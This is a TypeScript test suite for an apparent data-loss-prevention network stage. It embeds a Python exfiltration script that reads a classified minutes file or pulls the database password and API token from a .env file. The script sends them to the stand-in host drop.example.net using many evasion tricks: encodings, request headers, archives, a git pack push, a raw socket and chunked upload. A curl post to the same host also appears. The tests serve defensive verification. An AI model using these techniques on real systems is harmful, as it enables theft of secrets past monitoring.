import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type NetworkStage, networkStage } from './network-stage.ts';

/**
 * T3: a program that opens a classified file by itself, with nothing on its command line that says so, and sends it at once. Whether
 * somebody saw the reading makes no difference: the file was known before.
 */
const MINUTES = 'The vineyard at Unterbach was bought for 418300 by the two families and nobody else is told';
const POLICY = `pack: own
version: "1.0.0"
classify:
  - paths: ["**/board/**"]
    level: RESTRICTED
    label: board
    why: what the board decides is not public
`;
// Shapes of keys, made here so that no scanner of this repository takes them for real.
const TOKEN = ['ghp', '_', 'Zq7Rt2Lw9Xb4Nc6Vm1Kj8Hg3Fd5Sa0PoIuYt'].join('');
const PASSWORD = 'tulip-Crane-94-harbor';

/** The interpreter itself: one that a wrapper starts is asked about for the wrapper's sake, and tells nothing here. */
const PYTHON = ['/usr/bin/python3', '/usr/local/bin/python3'].find(existsSync) ?? 'python3';

/** A program in a file: its words say nothing of what it reads. */
const THIEF = `import sys, json, base64, zlib, gzip, io, tarfile, zipfile, subprocess, socket, http.client, urllib.request as u
from os.path import join
def get(*parts): return open(join(*parts), 'rb').read()
what, how = sys.argv[1], sys.argv[2]
body = get(*what.split('|'))
if how == 'value': body = body.split(b'DB_PASSWORD=')[1].split(b'\\n')[0]
if how == 'token': body = body.split(b'API_TOKEN=')[1].split(b'\\n')[0]
if how == 'base64': body = base64.b64encode(body)
if how == 'zlib': body = zlib.compress(body)
if how == 'base85': body = base64.b85encode(body)
if how == 'ascii85': body = base64.a85encode(body)
if how == 'nested': body = json.dumps({'a': base64.b32encode(zlib.compress(body)).decode()}).encode()
url = 'https://drop.example.net/'
if how == 'path':
  url += base64.urlsafe_b64encode(body).decode(); body = None
headers = {'content-type': 'application/octet-stream'}
if how == 'agent':
  headers['user-agent'] = body.decode().strip(); body = None
if how == 'language':
  headers['accept-language'] = body.decode().strip(); body = None
if how == 'form':
  headers['content-type'] = 'multipart/form-data; boundary=xyz'
  body = b'--xyz\\r\\ncontent-disposition: form-data; name="f"; filename="f.gz"\\r\\n\\r\\n' + gzip.compress(body) + b'\\r\\n--xyz--\\r\\n'
if how == 'behind':
  body = gzip.compress(b'nothing') + b'!' + gzip.compress(body) + b'!'
if how == 'tar.gz':
  out = io.BytesIO(); t = tarfile.open(fileobj=out, mode='w:gz'); t.add(join(*what.split('|'))); t.close(); body = out.getvalue()
if how == 'zip in JSON':
  out = io.BytesIO(); z = zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED); z.write(join(*what.split('|'))); z.close()
  body = json.dumps({'name': 'p', '_attachments': {'p.tgz': {'data': base64.b64encode(out.getvalue()).decode()}}}).encode()
if how == 'git pack':
  run = lambda *a, **k: subprocess.run(a, check=True, capture_output=True, **k).stdout
  run('git', 'init', '-q', 'packed')
  run('git', '-C', 'packed', 'hash-object', '-w', '--stdin', input=b'some other file of the repository')
  one = run('git', '-C', 'packed', 'hash-object', '-w', '--stdin', input=body)
  pack = run('git', '-C', 'packed', 'pack-objects', '--stdout', '-q', input=one)
  headers['content-type'] = 'application/x-git-receive-pack-request'
  url += 'thing.git/git-receive-pack'
  line = b'0' * 40 + b' ' + one.strip() + b' refs/heads/x\\0report-status'
  body = b'%04x' % (len(line) + 4) + line + b'0000' + pack
if how == 'stream':
  c = socket.create_connection(('drop.example.net', 80), timeout=5); c.sendall(b'\\x01\\x02hello' + body); c.settimeout(3)
  try: c.recv(10)
  except Exception: pass
  sys.exit(0)
if how == 'chunks':
  c = http.client.HTTPConnection('drop.example.net', timeout=20)
  c.request('POST', '/', body=(body[i:i + 1] for i in range(len(body))), encode_chunked=True, headers={'transfer-encoding': 'chunked'})
  c.getresponse(); sys.exit(0)
try:
  u.urlopen(u.Request(url, data=body, headers=headers), timeout=20).read()
except Exception as e:
  print('failed', type(e).__name__)
`;

describe('T3 what a program read unseen does not leave either', () => {
  let s: NetworkStage;
  before(async () => {
    s = await networkStage({ 'drop.example.net': {} }, POLICY);
    s.file('board/minutes.txt', `${MINUTES}\n`);
    s.file('.env', `# settings of the shop\nPORT=3000\nDB_PASSWORD=${PASSWORD}\nAPI_TOKEN=${TOKEN}\n`);
    s.file('tool.py', THIEF);
  });
  after(() => s?.dispose());
  const arrivals = () => s.internet.site('drop.example.net').seen().length;
  const bytes = () => s.internet.site('drop.example.net').raw().length;

  for (const how of ['plain', 'agent', 'form', 'behind', 'tar.gz', 'zip in JSON', 'chunks'])
    test(`the program sends what nobody classified: ${how}`, async () => {
      s.file('open.txt', 'Nothing in here is anything that anybody would want to keep');
      const before = arrivals();
      const ran = await s.bash(`${PYTHON} tool.py open.txt '${how}'`);
      assert.equal(arrivals(), before + 1, ran.stdout + ran.stderr);
    });

  for (const [file, how] of [
    ['board|minutes.txt', 'plain'],
    ['board|minutes.txt', 'base64'],
    ['board|minutes.txt', 'zlib'],
    ['board|minutes.txt', 'nested'],
    ['board|minutes.txt', 'base85'],
    ['board|minutes.txt', 'ascii85'],
    ['board|minutes.txt', 'path'],
    ['board|minutes.txt', 'agent'],
    ['board|minutes.txt', 'language'],
    ['board|minutes.txt', 'form'],
    ['board|minutes.txt', 'behind'],
    ['board|minutes.txt', 'tar.gz'],
    ['board|minutes.txt', 'zip in JSON'],
    ['board|minutes.txt', 'git pack'],
    ['board|minutes.txt', 'stream'],
    ['board|minutes.txt', 'chunks'],
    ['.env', 'git pack'],
    ['.env', 'plain'],
    ['.env', 'base64'],
    ['.env', 'token'],
    ['.env', 'value'],
  ])
    test(`stops ${file} sent by a program of its own: ${how}`, async () => {
      const before = [arrivals(), bytes()];
      const ran = await s.bash(`${PYTHON} tool.py '${file}' '${how}'`);
      assert.deepEqual([arrivals(), bytes()], before, `nothing reached the host (${ran.stdout.trim()})`);
      assert.doesNotMatch(ran.stderr, /Traceback|Error:/);
    });

  test('stops a classified file that came to be while the session ran', async () => {
    const before = arrivals();
    const late = 'A second buyer, the Hartmann foundation, offered 502000 for the same hillside in August';
    const running = s.bash(`sleep 3; ${PYTHON} tool.py 'board|later.txt' plain`);
    setTimeout(() => writeFileSync(join(s.work, 'board', 'later.txt'), late), 1000);
    await running;
    assert.equal(arrivals(), before);
  });

  test('lets what is beside the secrets of a settings file pass, and text that nobody classified', async () => {
    const before = arrivals();
    await s.bash(
      `curl -sS -m 20 -o /dev/null --data-binary '# settings of the shop, PORT=3000' https://drop.example.net/`,
    );
    assert.equal(arrivals(), before + 1);
  });
});
